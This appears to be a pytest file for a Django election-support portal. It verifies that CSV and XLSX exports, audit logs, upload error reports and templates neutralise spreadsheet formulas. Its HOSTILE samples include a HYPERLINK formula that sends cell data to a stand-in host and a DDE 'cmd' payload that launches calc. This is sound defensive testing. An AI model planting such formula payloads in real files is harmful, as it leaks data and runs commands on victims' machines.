"""Every export neutralises values a spreadsheet would run as a formula (= + - @, tab, CR first)."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from portal.exports import EXPORTS
from silon.audit.services import audit_record
from silon.csvsafe import FORMULA_PREFIXES
from support_uploads.models import Upload

from .conftest import REGENCY, csv_bytes, rows_for

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


def _dangerous(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_PREFIXES)


def _csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def _seen(cells, needle: str) -> bool:
    return any(needle.strip()[1:8] in c for c in cells)


@pytest.fixture
def hostile_world(world):
    world.pair_a.name = HOSTILE[0]
    world.pair_a.save(update_fields=["name"])
    world.pair_b.name = HOSTILE[1]
    world.pair_b.save(update_fields=["name"])
    head = world.pair_a.candidates.get(role="head")
    head.name = HOSTILE[3]
    head.save(update_fields=["name"])
    world.election.name = HOSTILE[2]
    world.election.save(update_fields=["name"])
    return world


@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_portal_csv(client, hostile_world, name):
    response = client.get(reverse("portal:csv", args=[name]))
    assert response.status_code == 200
    cells = _csv_cells(b"".join(response.streaming_content))
    assert cells, name
    assert not [c for c in cells if _dangerous(c)], name


def test_portal_csv_carries_the_hostile_values_neutralised(client, hostile_world):
    cells = _csv_cells(b"".join(client.get(reverse("portal:csv", args=["paslon"])).streaming_content))
    assert "'" + HOSTILE[0] in cells and "'" + HOSTILE[1] in cells


def test_audit_export(client, world):
    for value in HOSTILE:
        audit_record(actor=world.users["kpu_r"], action=value, object_type=value, region_code=REGENCY)
    client.force_login(world.users["kpu_r"])
    response = client.get(reverse("audit:export"))
    assert response.status_code == 200
    cells = _csv_cells(b"".join(response.streaming_content))
    assert "'" + HOSTILE[0] in cells  # present, neutralised
    assert not [c for c in cells if _dangerous(c)]


def test_error_report_and_rows(client, world, villages, django_capture_on_commit_callbacks):
    rows = rows_for([v for v in villages if v.startswith(REGENCY + ".")], len(HOSTILE), start=40)
    for row, value in zip(rows, HOSTILE, strict=True):
        row["name"] = value
        row["address"] = value
        row["rt"] = "abcd"  # rejected, so every row is in the report
    client.force_login(world.users["lo_a"])
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            reverse("support_uploads:upload_post", args=[world.pair_a.pk]),
            {"file": SimpleUploadedFile("rumus.csv", csv_bytes(rows))},
        )
    assert response.status_code == 302
    upload = Upload.objects.filter(pair=world.pair_a).latest("pk")
    response = client.get(reverse("support_uploads:upload_report", args=[upload.pk]))
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    cells = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]
    values = [c.value for c in cells if c.value is not None]
    assert not [c for c in cells if c.data_type == "f"], "a formula cell in the report"
    assert not [v for v in values if _dangerous(v)]
    assert any(isinstance(v, str) and v.startswith("'=HYPERLINK") for v in values)


def test_template_with_a_hostile_pair_name(client, hostile_world):
    client.force_login(hostile_world.users["lo_a"])
    response = client.get(reverse("support_uploads:template", args=[hostile_world.pair_a.pk]))
    assert response.status_code == 200
    content = response.content if not response.streaming else b"".join(response.streaming_content)
    book = load_workbook(io.BytesIO(content))
    cells = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert not [c.value for c in cells if _dangerous(c.value)]


def test_verification_documents_neutralise_formulas_in_xlsx():
    """Supporters' names reach the official supporter list as the team typed them: never as a live formula."""
    import io

    from openpyxl import load_workbook

    from verification.documents.render import XlsxRenderer

    hostile = ['=HYPERLINK("http://x.invalid","klik")', "+1+1", "-2", "@SUM(A1)"]
    renderer = XlsxRenderer("ABCD-EF01-2345-6789", "0" * 64)
    renderer.feed(["title", "=TITLE()"])
    renderer.feed(["meta", "Pasangan", "@pair"])
    renderer.feed(["section", "=Desa", ["No", "=Nama"]])
    renderer.feed(["row", [1, *hostile]])
    renderer.feed(["note", "-catatan"])
    out = io.BytesIO()
    renderer.finish(out)
    out.seek(0)
    cells = [c for row in load_workbook(out).active.iter_rows() for c in row if c.value is not None]
    assert not [c for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert {"'" + h for h in hostile} <= texts and "'=TITLE()" in texts and "'@pair" in texts
    assert 1 in {c.value for c in cells}  # numbers stay numbers
